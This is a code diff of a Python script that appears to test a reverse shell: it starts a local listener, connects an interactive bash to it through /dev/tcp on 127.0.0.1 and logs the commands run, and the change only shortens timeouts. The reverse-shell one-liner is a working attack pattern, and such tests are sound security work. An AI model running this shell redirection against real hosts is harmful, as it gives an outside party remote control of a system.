@@ -18,7 +18,7 @@ def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
     listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
     listener.bind(("127.0.0.1", 0))
     listener.listen(1)
-    listener.settimeout(8)
+    listener.settimeout(4)
     transcript = []
 
     def operator():
@@ -26,7 +26,7 @@ def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
             conn, _ = listener.accept()
         except OSError:
             return
-        conn.settimeout(5)
+        conn.settimeout(3)
         conn.sendall(commands)
         data = b""
         try:
@@ -45,7 +45,7 @@ def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
     return listener.getsockname()[1], thread, transcript
 
 port, operator, transcript = start_operator()
-subprocess.run(["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/%d 0>&1" % port], timeout=8,
+subprocess.run(["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/%d 0>&1" % port], timeout=5,
                stderr=subprocess.DEVNULL)
-operator.join(6)
+operator.join(3)
 print("operator transcript:", transcript)
